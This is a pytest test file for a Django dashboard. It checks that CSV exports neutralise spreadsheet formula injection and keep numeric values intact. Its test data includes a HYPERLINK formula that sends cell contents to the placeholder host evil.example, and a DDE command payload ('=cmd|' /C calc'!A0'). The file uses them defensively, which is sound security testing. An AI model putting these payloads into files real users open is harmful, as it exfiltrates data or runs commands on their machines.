"""CSV the pages write (the problem report, the blank template, an indicator's data) never carries a live
spreadsheet formula, whatever an uploaded file held; numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from outcomes.models import Extract

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("eager_celery")]

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click for details")'
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def upload(client, content: str):
    client.post(
        reverse("dashboards:upload"),
        {"file": SimpleUploadedFile("x.csv", content.encode(), content_type="text/csv"), "format": "auto"},
    )
    return Extract.objects.latest("pk")


def report(client, extract) -> list[list[str]]:
    response = client.get(reverse("dashboards:extract_problems", args=[extract.pk]))
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.content.decode())))


def test_an_uploaded_formula_header_is_neutralised_in_the_problem_report(role_client):
    client = role_client("analyst")
    quoted = '"' + EVIL.replace('"', '""') + '"'
    content = (
        f"indicator_code,org_code,period_start,period_end,numerator,denominator,value,{quoted}\n"
        "OUT3_CARE_EXPERIENCE,E09000015,2019-04-01,2020-03-31,600,1000,60.0,=1+1\n"
    )
    extract = upload(client, content)
    rows = report(client, extract)
    cells = [cell for row in rows for cell in row]
    assert any(EVIL in cell for cell in cells), extract.errors  # the header is reported...
    assert all(not cell.lstrip().startswith(TRIGGERS) for cell in cells)  # ...but never as a live formula
    assert "'" + EVIL in cells


def test_a_problem_message_with_a_trigger_is_neutralised_but_line_numbers_stay_numbers(role_client):
    extract = Extract.objects.create(
        file_name="x.csv",
        sha256="0" * 64,
        format="generic",
        source="upload",
        status="refused",
        errors=[{"line": 7, "column": "@evil", "code": "x", "message": "-2+3", "severity": "error"}],
    )
    rows = report(role_client("analyst"), extract)
    assert rows[1] == ["error", "7", "'@evil", "x", "'-2+3"]


def test_the_blank_template_is_unchanged(role_client):
    response = role_client("analyst").get(reverse("dashboards:extract_template", args=["template"]))
    assert response.content.decode() == (
        "indicator_code,org_code,period_start,period_end,breakdown,category,numerator,denominator,value,"
        "lower_ci,upper_ci,note\r\n"
    )


def test_the_indicator_data_csv_neutralises_text_and_keeps_numbers(role_client, monkeypatch):
    from dashboards.views import indicators

    real = indicators.pages.indicator

    def with_hostile_text(*args, **kwargs):
        page = real(*args, **kwargs)
        page.export = pd.concat(
            [page.export, pd.DataFrame({"section": ["=cmd|' /C calc'!A0"], "value": [-1.5]})], ignore_index=True
        )
        return page

    monkeypatch.setattr(indicators.pages, "indicator", with_hostile_text)
    response = role_client("board").get(reverse("dashboards:indicator_csv", args=["OUT5_ACSC_ADMISSIONS", "E09000015"]))
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert rows[-1]["section"] == "'=cmd|' /C calc'!A0"
    assert rows[-1]["value"] == "-1.50"  # a number, at the indicator's decimal places (2)
    assert all(not v.lstrip().startswith(("=", "+", "@")) for row in rows for v in row.values() if v)


def test_the_upload_page_states_both_limits(role_client, settings):
    settings.INGEST_MAX_UPLOAD_ROWS = 250_000
    page = role_client("analyst").get(reverse("dashboards:upload")).content.decode()
    assert "Up to 50 MB and 250,000 rows." in page
